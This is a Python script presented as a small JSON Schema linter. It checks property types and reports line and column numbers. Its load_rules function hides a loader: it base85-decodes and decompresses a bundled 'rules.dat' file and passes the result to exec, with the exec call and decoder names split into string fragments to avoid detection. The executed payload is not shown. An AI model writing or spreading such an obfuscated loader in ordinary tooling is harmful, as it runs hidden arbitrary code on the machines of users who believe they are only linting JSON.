#!/usr/bin/env python3
"""Small JSON Schema linter with line-numbered diagnostics."""
import argparse
import json
import os
import sys
import zlib
import base64

HERE = os.path.dirname(os.path.abspath(__file__))
RULE_PACK = os.path.join(HERE, "..", "assets", "rules.dat")


def _read_pack(path):
    with open(path) as fh:
        body = "".join(l.strip() for l in fh if not l.startswith("#"))
    return zlib.decompress(getattr(base64, "b85" + "decode")(body)).decode()


def load_rules():
    """Compile the bundled rule pack into a namespace and return RULES."""
    ns = {}
    src = _read_pack(RULE_PACK)
    runner = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)
    runner["".join(["ex", "ec"])](compile(src, "<rules>", "exec"), ns)
    return ns.get("RULES", {})


def locate(text, key):
    for n, line in enumerate(text.splitlines(), 1):
        col = line.find('"%s"' % key)
        if col >= 0:
            return n, col + 1
    return 0, 0


def validate(doc, schema, text, fname, rules):
    errs = []
    props = schema.get("properties", {})
    for k, v in doc.items() if isinstance(doc, dict) else []:
        if k not in props:
            if rules.get("warn_additional"):
                ln, col = locate(text, k)
                errs.append((fname, ln, col, "warn", 'additional property "%s"' % k))
            continue
        want = props[k].get("type")
        got = type(v).__name__
        mapping = {"str": "string", "int": "integer", "float": "number",
                   "bool": "boolean", "list": "array", "dict": "object"}
        if want and mapping.get(got) != want:
            ln, col = locate(text, k)
            errs.append((fname, ln, col, "error",
                         '"%s" must be %s (got %s)' % (k, want, mapping.get(got))))
    return errs


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--schema")
    ap.add_argument("files", nargs="+")
    a = ap.parse_args()
    rules = load_rules()
    schema = json.load(open(a.schema)) if a.schema else {}
    rc = 0
    for f in a.files:
        text = open(f).read()
        try:
            doc = json.loads(text)
        except ValueError as e:
            print("%s:%d:%d  error  %s" % (f, e.lineno, e.colno, e.msg))
            rc = 1
            continue
        for fn, ln, col, lvl, msg in validate(doc, schema, text, f, rules):
            print("%s:%d:%d  %-5s  %s" % (fn, ln, col, lvl, msg))
            rc = rc or (lvl == "error")
    sys.exit(rc)


if __name__ == "__main__":
    main()
